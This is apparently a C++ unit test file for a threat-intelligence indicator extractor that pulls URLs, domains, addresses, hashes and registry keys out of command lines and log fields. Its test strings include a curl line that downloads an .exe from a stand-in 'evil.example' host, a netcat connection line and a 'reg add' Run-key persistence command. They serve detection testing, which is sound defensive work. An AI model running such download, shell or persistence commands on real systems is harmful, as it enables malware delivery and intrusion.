// SPDX-License-Identifier: Apache-2.0
#include "intel/text_values.h"

#include <gtest/gtest.h>

#include <chrono>
#include <set>

#include "intel/observed.h"

namespace bartizan::intel {
namespace {

class Collect final : public KeyReceiver {
 public:
  void take(Kind kind, std::string_view key) override {
    found.insert(std::string(kind_name(kind)) + " " + indicator_text(kind, key));
  }
  std::set<std::string> found;
};

std::set<std::string> in_text(std::string_view text) {
  Collect collect;
  TextValues().read(text, collect);
  return collect.found;
}
std::set<std::string> in_field(FieldRole role, std::string_view text) {
  Collect collect;
  ObservedValues().read(role, text, collect);
  return collect.found;
}
bool names(std::string_view text, const std::string& value) { return in_text(text).contains(value); }

TEST(TextValues, FindsValuesInCommandLines) {
  const char* kLine =
      "cmd /c curl -o C:\\Temp\\x.exe \"https://cdn.Evil.example:8443/a/b.exe?id=1\" & ping 198.51.100.7";
  EXPECT_TRUE(names(kLine, "url http://cdn.evil.example:8443/a/b.exe?id=1"));
  EXPECT_TRUE(names(kLine, "domain cdn.evil.example"));
  EXPECT_TRUE(names(kLine, "domain evil.example"));
  EXPECT_FALSE(names(kLine, "domain example"));
  EXPECT_TRUE(names(kLine, "address 198.51.100.7"));
  EXPECT_TRUE(names(kLine, "file-name x.exe"));
  EXPECT_FALSE(names("notevil.example", "domain evil.example"));
  EXPECT_TRUE(names("nc -6 2001:db8::7 443", "address 2001:db8::7"));
  EXPECT_TRUE(names("to [::ffff:198.51.100.7]:443", "address 198.51.100.7"));
  EXPECT_TRUE(names("hash=D41D8CD98F00B204E9800998ECF8427E;", "md5 d41d8cd98f00b204e9800998ecf8427e"));
  EXPECT_TRUE(names("mail bob@evil.example now", "email bob@evil.example"));
  EXPECT_TRUE(names("reg add HKLM\\Software\\Evil\\Run /v x", "registry-key hklm\\software\\evil"));
  EXPECT_TRUE(names("see bücher.example.", "domain xn--bcher-kva.example"));
}

TEST(TextValues, FieldsGiveKeysByTheirRole) {
  EXPECT_EQ(in_field(FieldRole::kHashes,
                     "MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00112233445566778899AABBCCDDEEFF"),
            (std::set<std::string>{"md5 d41d8cd98f00b204e9800998ecf8427e",
                                   "imphash 00112233445566778899aabbccddeeff"}));
  EXPECT_EQ(in_field(FieldRole::kAddress, "198.51.100.7:443"),
            (std::set<std::string>{"address 198.51.100.7"}));
  EXPECT_EQ(in_field(FieldRole::kAddress, "::ffff:198.51.100.7"),
            (std::set<std::string>{"address 198.51.100.7"}));
  EXPECT_EQ(in_field(FieldRole::kHost, "A.evil.example."),
            (std::set<std::string>{"domain a.evil.example", "domain evil.example"}));
  EXPECT_EQ(in_field(FieldRole::kUrl, "evil.example:443"),
            (std::set<std::string>{"url http://evil.example/", "domain evil.example"}));
  EXPECT_EQ(in_field(FieldRole::kPath, "C:\\Temp\\A.exe"),
            (std::set<std::string>{"file-name \\temp\\a.exe", "file-name a.exe"}));
  EXPECT_EQ(
      in_field(FieldRole::kRegistryKey, "HKLM\\Software\\Evil\\Run"),
      (std::set<std::string>{"registry-key hklm\\software\\evil\\run", "registry-key hklm\\software\\evil"}));
}

TEST(TextValues, HostileTextTakesLinearTime) {
  std::vector<std::string> hostile;
  for (const std::string& part :
       {std::string("a://"), std::string("a."), std::string("aaaa@"), std::string("ab:"), std::string("HK\\"),
        std::string("::"), std::string("a.b\xc3\xbc.")}) {
    std::string text;
    while (text.size() < 1u << 18) text += part;
    hostile.push_back(std::move(text));
  }
  const auto begin = std::chrono::steady_clock::now();
  for (const std::string& text : hostile) {
    (void)in_text(text);
    (void)in_field(FieldRole::kUrl, text);
    (void)in_field(FieldRole::kHashes, text);
    (void)in_field(FieldRole::kRegistryKey, text);
  }
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(20));
}

TEST(TextValues, FieldNamesAreSorted) {
  const auto fields = observed_fields();
  for (std::size_t i = 1; i < fields.size(); ++i) EXPECT_LT(fields[i - 1].name, fields[i].name);
  EXPECT_EQ(role_of_field("QueryName"), FieldRole::kHost);
  EXPECT_EQ(role_of_field("Nothing"), FieldRole::kNone);
}

}  // namespace
}  // namespace bartizan::intel
